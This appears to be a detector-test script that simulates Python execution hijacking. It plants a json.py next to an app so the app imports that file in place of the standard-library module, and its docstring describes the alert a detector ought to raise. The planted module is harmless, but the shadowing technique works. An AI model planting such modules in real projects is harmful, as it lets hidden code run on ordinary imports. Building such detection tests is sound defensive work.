# technique: T1574 T1036.005
"""Hijack Execution Flow (T1574) by a module that shadows a standard
library name, placed in the directory of a script that imports it
(Masquerading: Match Legitimate Name, T1036.005).

Builds a small "application" under HOME: app/main.py does `import json`,
and the attacker drops app/json.py next to it (it re-exports the real json
after running its own code). Since sys.path[0] is the script's directory,
the child `python app/main.py` imports the attacker's json.py first.

A good detector raises a high alert: a file named like a standard-library
module (json.py) is written to a directory that is on an interpreter's
import path, and/or a standard-library name is imported from outside the
standard library.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import subprocess
import sys

app = os.path.join(os.path.expanduser("~"), "app")
os.makedirs(app, exist_ok=True)
with open(os.path.join(app, "main.py"), "w") as f:
    f.write("import json\nprint(json.dumps({'ok': True}), getattr(json, 'HIJACKED', False))\n")
with open(os.path.join(app, "json.py"), "w") as f:
    f.write("import sys, os\n"
            "HIJACKED = True\n"
            "_me = sys.modules[__name__]\n"
            "_here = sys.path.pop(0)\n"
            "del sys.modules['json']\n"
            "import json as _real\n"
            "sys.path.insert(0, _here)\n"
            "sys.modules['json'] = _me\n"
            "dumps, loads = _real.dumps, _real.loads\n")
out = subprocess.run([sys.executable, os.path.join(app, "main.py")],
                     capture_output=True, text=True, timeout=8)
print(out.stdout.strip(), out.stderr.strip()[-200:])
